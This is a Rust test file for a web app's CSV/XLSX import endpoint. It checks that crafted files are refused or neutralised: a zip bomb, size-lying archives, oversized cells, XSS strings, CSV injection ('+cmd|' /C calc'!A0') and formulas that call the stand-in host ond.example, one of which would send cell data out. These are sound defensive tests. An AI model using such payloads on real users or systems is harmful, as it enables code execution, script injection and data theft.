//! Files made to do harm, sent to the registers: each is refused or made harmless, with the place, what is there, what should be, and what to do.

use crate::server::{Answer, Browser, Server};
use axum::{
    body::Body,
    http::{Request, StatusCode, header},
};
use bavn_app::{
    asset::{AssetKeys, find_assets},
    import_export::list_imports,
    page::PageRequest,
};
use bavn_testkit::engines;
use std::io::{Cursor, Write as _};
use zip::{ZipWriter, write::SimpleFileOptions};

async fn send(server: &Server, browser: &Browser, name: &str, file: &[u8]) -> Answer {
    let mut body = format!(
        "--x\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\n{}\r\n\
         --x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\n\r\n",
        browser.csrf
    )
    .into_bytes();
    body.extend(file);
    body.extend(b"\r\n--x--\r\n");
    let request = Request::post("/registre/import")
        .header(header::CONTENT_TYPE, "multipart/form-data; boundary=x")
        .header(header::COOKIE, &browser.cookie);
    server.send(request.body(Body::from(body)).unwrap()).await
}

/// A workbook of these parts.
fn zipped(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, content) in parts {
        out.start_file(*name, SimpleFileOptions::default()).unwrap();
        out.write_all(content).unwrap();
    }
    out.finish().unwrap().into_inner()
}

/// A workbook with one sheet of these rows.
fn workbook(rows: &str) -> Vec<u8> {
    const TYPES: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    let relation = |kind: &str, target: &str| {
        format!(
            "<Relationships><Relationship Id=\"rId1\" Target=\"{target}\" Type=\"{TYPES}/{kind}\"/></Relationships>"
        )
    };
    let sheet = format!("<worksheet><sheetData>{rows}</sheetData></worksheet>");
    let book = format!(
        "<workbook xmlns:r=\"{TYPES}\"><sheets><sheet name=\"Ark\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>"
    );
    zipped(&[
        ("[Content_Types].xml", b"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"),
        ("_rels/.rels", relation("officeDocument", "xl/workbook.xml").as_bytes()),
        ("xl/workbook.xml", book.as_bytes()),
        ("xl/_rels/workbook.xml.rels", relation("worksheet", "worksheets/sheet1.xml").as_bytes()),
        ("xl/worksheets/sheet1.xml", sheet.as_bytes()),
    ])
}

fn text_cell(place: &str, text: &str) -> String {
    format!("<c r=\"{place}\" t=\"inlineStr\"><is><t>{text}</t></is></c>")
}

fn head() -> String {
    format!("<row r=\"1\">{}{}</row>", text_cell("A1", "Navn"), text_cell("B1", "Type"))
}

/// A workbook that says of one part that it holds two thousand million bytes.
fn claims_two_gigabytes() -> Vec<u8> {
    const FILLER: usize = 1_234_567;
    let mut bytes = zipped(&[("xl/worksheets/sheet1.xml", &vec![b' '; FILLER])]);
    let told = u32::try_from(FILLER).unwrap().to_le_bytes();
    let places: Vec<usize> = (0..bytes.len() - 4).filter(|&at| bytes[at..at + 4] == told).collect();
    assert_eq!(places.len(), 2, "both headers tell the size");
    for at in places {
        bytes[at..at + 4].copy_from_slice(&2_000_000_000_u32.to_le_bytes());
    }
    bytes
}

#[tokio::test]
async fn what_would_take_all_room_or_cannot_be_read_is_refused_in_plain_words() {
    let engine = engines()[0];
    let server = Server::new(engine).await;
    let browser = server.browser("coordinator").await;
    let million = ";".repeat(1_000_000);
    let cells = "<c><v>1</v></c>".repeat(1_000_000);
    let long = "x".repeat(40_000);
    let many: String = "<part/>".to_owned();
    let parts: Vec<String> = (0..1_001).map(|at| format!("{at}.xml")).collect();
    let parts: Vec<(&str, &[u8])> = parts.iter().map(|name| (name.as_str(), many.as_bytes())).collect();
    let spaces = vec![b' '; 10_000_000];
    let bomb: Vec<String> = (0..31).map(|at| format!("xl/{at}.xml")).collect();
    let bomb: Vec<(&str, &[u8])> = bomb.iter().map(|name| (name.as_str(), spaces.as_slice())).collect();
    let files: Vec<(&str, Vec<u8>, &[&str])> = vec![
        (
            "kolonner.csv",
            format!("Navn{million}\n").into(),
            &["Række 1 har mere end 500 kolonner", "Slet de overflødige"],
        ),
        ("kolonner2.csv", format!("Navn;Type\nA{million}\n").into(), &["Række 2 har mere end 500 kolonner"]),
        (
            "kolonner.xlsx",
            workbook(&format!("{}<row r=\"2\">{cells}</row>", head())),
            &["Række 2 i arket »Ark« har mere end 500 kolonner", "Slet de overflødige"],
        ),
        (
            "hjoerne.xlsx",
            workbook(&format!("{}<row r=\"2\"><c r=\"XFD2\"><v>1</v></c></row>", head())),
            &["Række 2 i arket »Ark« har mere end 500 kolonner"],
        ),
        ("bombe.xlsx", zipped(&bomb), &["pakker sig ud til mere end 300,0 MB", "del den i flere filer"]),
        ("loegn.xlsx", claims_two_gigabytes(), &["pakker sig ud til mere end 300,0 MB"]),
        ("dele.xlsx", zipped(&parts), &["mere end 1000 dele", "nyt regneark"]),
        ("tegn.csv", b"\xEF\xBB\xBFNavn;Type\nS\xF8jle;System\n".to_vec(), &["Linje 2 har tegnet 0xF8", "CSV (UTF-8)"]),
        ("nul.csv", b"Navn;Type\nA\0;System\n".to_vec(), &["Linje 2 har tegnet U+0000"]),
        ("citat.csv", b"Navn;Type\nA;\"System\nB;x\n".to_vec(), &["celle B2 bliver aldrig lukket", "hent filen igen"]),
        (
            "celle.csv",
            format!("Navn;Type\nA;{long}\n").into(),
            &["Celle B2 har mere end 32.767 tegn", "Forkort teksten"],
        ),
        (
            "celle.xlsx",
            workbook(&format!("{}<row r=\"2\">{}</row>", head(), text_cell("B2", &long))),
            &["Celle B2 i arket »Ark« har mere end 32.767 tegn"],
        ),
        ("tom.csv", b" \n".to_vec(), &["hverken CSV eller XLSX", "Gem den som CSV"]),
        ("gammel.xls", vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1], &["hverken CSV eller XLSX (XLS)"]),
        ("side.csv", b"<!DOCTYPE html><script>alert(1)</script>".to_vec(), &["hverken CSV eller XLSX (HTML)"]),
        ("halv.xlsx", b"PK\x03\x04 ikke rigtig".to_vec(), &["beskadiget", "Gem den igen som XLSX"]),
        ("tomt.xlsx", workbook(""), &["har en tabel med overskrifter", "øverst"]),
    ];
    for (name, file, texts) in files {
        let answer = send(&server, &browser, name, &file).await;
        assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{name}: {}", answer.body);
        assert!(answer.body.contains("Intet er gemt"), "{name}");
        for text in texts {
            assert!(answer.body.contains(text), "{name}: {text}: {}", answer.body);
        }
        assert!(!answer.body.contains("<script>alert"), "{name}");
    }
    let large = send(&server, &browser, "stor.csv", &vec![b'a'; 26_000_000]).await;
    assert_eq!(large.status, StatusCode::PAYLOAD_TOO_LARGE);
    assert!(large.body.contains("25,0 MB"), "{}", large.body);
    let kept = list_imports(&server.test.app, &server.actors.ctx("coordinator"), PageRequest::default()).await.unwrap();
    assert_eq!(kept.total, 0, "nothing of them waits");
}

#[tokio::test]
async fn formulas_scripts_and_wrong_letters_are_texts_and_are_told_by_cell() {
    for engine in engines() {
        let server = Server::new(engine).await;
        let browser = server.browser("coordinator").await;
        let csv = "Navn;Beskrivelse;Note\n\
            =HYPERLINK(\"http://ond.example\");<script>alert(1)</script>;<img src=x onerror=alert(2)>\n\
            +cmd|' /C calc'!A0;Ã˜konomi;@SUM(A1:A9)\n";
        let sent = send(&server, &browser, "aktiver.csv", csv.as_bytes()).await;
        assert_eq!(sent.status, StatusCode::SEE_OTHER, "{}", sent.body);
        let path = sent.header("location").to_owned();
        let page = server.get(Some(&browser), &path).await.body;
        for text in
            ["A2", "B2", "C2", "A3", "B3", "C3", "Ligner en formel", "Indeholder kode", "Bogstaverne ser forkerte ud"]
        {
            assert!(page.contains(text), "{text}: {page}");
        }
        let run = server.post(Some(&browser), &format!("{path}/koer"), true, "").await;
        assert_eq!(run.status, StatusCode::SEE_OTHER, "{}", run.body);
        let ctx = server.actors.ctx("coordinator");
        let stored = find_assets(&server.test.app, &ctx, &AssetKeys::InUse).await.unwrap();
        assert_eq!(stored[0].facts.name, "=HYPERLINK(\"http://ond.example\")", "a text, as it stood");
        let pages = [page, server.get(Some(&browser), &format!("/aktiver/{}", stored[0].id)).await.body];
        for page in pages {
            assert!(!page.contains("<script>alert") && !page.contains("<img src=x"), "{page}");
        }
        // On its way out to a spreadsheet program it is still no formula.
        let list = server.get(Some(&browser), "/aktiver/eksport/csv").await.body;
        assert!(list.contains("'=HYPERLINK") && list.contains("'+cmd"), "{list}");
    }
}

#[tokio::test]
async fn a_formula_of_a_workbook_is_not_worked_out() {
    let engine = engines()[0];
    let server = Server::new(engine).await;
    let browser = server.browser("coordinator").await;
    let rows = format!(
        "{}<row r=\"2\">{}<c r=\"B2\" t=\"str\"><f>WEBSERVICE(\"http://ond.example/\"&amp;A2)</f><v>System</v></c></row>",
        head(),
        text_cell("A2", "Journal")
    );
    let sent = send(&server, &browser, "formel.xlsx", &workbook(&rows)).await;
    assert_eq!(sent.status, StatusCode::SEE_OTHER, "{}", sent.body);
    let page = server.get(Some(&browser), sent.header("location")).await.body;
    assert!(page.contains("B2") && page.contains("Formlen regnes ikke ud. Den gemte værdi bruges."), "{page}");
}
